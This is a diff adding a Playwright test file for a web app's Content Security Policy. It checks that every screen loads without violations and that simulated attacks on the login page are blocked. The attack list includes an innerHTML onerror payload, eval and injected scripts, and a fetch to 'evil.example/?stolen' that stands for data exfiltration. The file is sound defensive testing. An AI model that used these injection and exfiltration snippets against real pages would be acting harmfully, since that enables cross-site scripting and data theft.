@@ -1,0 +1,196 @@
+/** The policy of the pages: no screen needs what it refuses, and what an attacker would try is refused. */
+import type { BrowserContext } from '@playwright/test'
+import { enter, expect, test, type Page } from './support/desk.ts'
+import { chooseTheme, settled } from './support/screen.ts'
+import { screens, signInAs } from './support/screens.ts'
+import { served } from './support/served.ts'
+
+/** What the browser refuses from now on, in all pages of a context: "script-src-elem inline". */
+async function watch(context: BrowserContext): Promise<string[]> {
+  const refused: string[] = []
+  await context.exposeFunction('tellRefusal', (told: string) => void refused.push(told))
+  await context.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', (event) => {
+      // A report of the page on itself, to the function that was exposed above.
+      const { tellRefusal } = window as unknown as { tellRefusal: (told: string) => void }
+      tellRefusal(`${event.effectiveDirective} ${event.blockedURI}`)
+    })
+  })
+  return refused
+}
+
+for (const [name, { who, open, widths }] of Object.entries(screens)) {
+  test(`${name} needs nothing that the policy refuses`, async ({ page, desk }) => {
+    const width = !widths || widths.includes(1280) ? 1280 : 360
+    await page.setViewportSize({ width, height: 800 })
+    const refused = await watch(page.context())
+    await signInAs(page, desk, who)
+    await chooseTheme(page, 'dark')
+    await open(page, desk)
+    await settled(page)
+    // Tips come up under the pointer.
+    const buttons = page.getByRole('button').filter({ visible: true })
+    if ((await buttons.count()) > 0) await buttons.first().hover({ force: true })
+    await page.emulateMedia({ media: 'print' })
+    expect(refused).toEqual([])
+  })
+}
+
+const control = test.extend({
+  // The browser complains of each refusal, which is what is wanted here.
+  noStumbles: [async ({}, use) => use(), { auto: true }],
+})
+
+control('a photo opens in place, and runs nothing', async ({ page, desk }) => {
+  await enter(page.context(), desk.admin)
+  const [loan] = await desk.admin.call('listLoans', { query: { search: 'Millrace Row' } })
+  const params = { loanId: loan?.id ?? '' }
+  const [photo] = await desk.admin.call('listLoanPhotos', { params })
+  const complaints: string[] = []
+  page.on('console', (message) => complaints.push(message.text()))
+  await page.goto(`/objects/${photo?.fileUrl}`)
+  await page.waitForFunction(() => document.images[0]?.complete)
+  expect(await page.evaluate(() => document.images[0]?.naturalWidth)).toBeGreaterThan(100)
+  // The browser's own page around a photo has styles in it, but no script.
+  expect(complaints.filter((text) => text.includes('Content Security Policy'))).toEqual([])
+})
+
+/** What somebody would do who got a foot in the page; what gets through says so. */
+const attempts: Record<string, { act: () => unknown; refusedBy: RegExp }> = {
+  'an inline script that was written into the page': {
+    act: () => {
+      const script = document.createElement('script')
+      script.append('window.gotThrough = true')
+      document.head.append(script)
+    },
+    refusedBy: /^(script-src-elem inline|require-trusted-types-for)/,
+  },
+  'a script of another site': {
+    act: () => {
+      const script = document.createElement('script')
+      script.setAttribute('src', 'https://evil.example/x.js')
+      document.head.append(script)
+    },
+    refusedBy: /^require-trusted-types-for/,
+  },
+  'text as code': {
+    act: () => {
+      // oxlint-disable-next-line typescript/no-implied-eval -- It is what must not work.
+      window.setTimeout('window.gotThrough = true', 0)
+    },
+    refusedBy: /^(script-src eval|require-trusted-types-for)/,
+  },
+  eval: {
+    act: () => {
+      // oxlint-disable-next-line no-eval -- It is what must not work.
+      return (0, eval)('window.gotThrough = true')
+    },
+    refusedBy: /^(script-src eval|require-trusted-types-for)/,
+  },
+  'text as markup': {
+    act: () => {
+      document.body.innerHTML = '<img src=x onerror="window.gotThrough = true">'
+    },
+    refusedBy: /^require-trusted-types-for/,
+  },
+  'a policy that trusts text': {
+    act: () => {
+      // Not in the library of types yet.
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
+      }
+      trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
+    },
+    refusedBy: /^trusted-types/,
+  },
+  'a handler in an attribute': {
+    act: () => {
+      document.body.setAttribute('onclick', 'window.gotThrough = true')
+      document.body.click()
+    },
+    refusedBy: /^(script-src-attr inline|require-trusted-types-for)/,
+  },
+  'styles in an attribute': {
+    act: () => document.body.setAttribute('style', 'display: none'),
+    refusedBy: /^style-src-attr inline/,
+  },
+  'a call to another site': {
+    act: () => fetch('https://evil.example/?stolen'),
+    refusedBy: /^connect-src https:\/\/evil\.example/,
+  },
+  'a form to another site': {
+    act: () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      document.body.append(form)
+      form.submit()
+    },
+    refusedBy: /^form-action https:\/\/evil\.example/,
+  },
+  'a frame': {
+    act: () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
+    },
+    refusedBy: /^frame-src https:\/\/evil\.example/,
+  },
+  'a plug-in': {
+    act: () => {
+      const plugin = document.createElement('embed')
+      plugin.type = 'application/x-shockwave-flash'
+      plugin.setAttribute('width', '10')
+      document.body.append(plugin)
+      const frame = document.createElement('object')
+      frame.type = 'text/html'
+      Reflect.set(frame, 'data', 'https://evil.example/')
+      document.body.append(frame)
+    },
+    refusedBy: /^(object-src|require-trusted-types-for)/,
+  },
+  'another base for addresses': {
+    act: () => {
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.append(base)
+    },
+    refusedBy: /^base-uri https:\/\/evil\.example/,
+  },
+}
+
+control.describe('the policy refuses', () => {
+  for (const [name, { act, refusedBy }] of Object.entries(attempts)) {
+    control(name, async ({ page }) => {
+      const refused = await watch(page.context())
+      await page.goto('/login', { waitUntil: 'networkidle' })
+      expect(refused).toEqual([])
+      await attempt(page, act)
+      await expect
+        .poll(() => refused.some((each) => refusedBy.test(each)), { message: name })
+        .toBe(true)
+      expect(await page.evaluate(() => 'gotThrough' in window)).toBe(false)
+      expect(page.url()).toBe(`${served().address}/login`)
+    })
+  }
+
+  control('to have the pages framed', async ({ page, desk }) => {
+    const other = await desk.openAs(null)
+    await other.route('http://evil.example/', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `<iframe src="${served().address}/login"></iframe>`,
+      }),
+    )
+    await other.goto('http://evil.example/', { waitUntil: 'networkidle' })
+    await expect(other.frameLocator('iframe').getByLabel('Email')).toHaveCount(0)
+    await page.goto('/login')
+    await expect(page.getByLabel('Email')).toHaveCount(1)
+  })
+})
+
+/** In a timer, as the page's own code: what a test runs directly may do more than a page may. */
+const attempt = (page: Page, act: () => unknown) =>
+  page.evaluate(
+    `new Promise((resolve) => setTimeout(() =>
+       Promise.resolve().then(${String(act)}).catch(() => {}).finally(() => resolve()), 0))`,
+  )
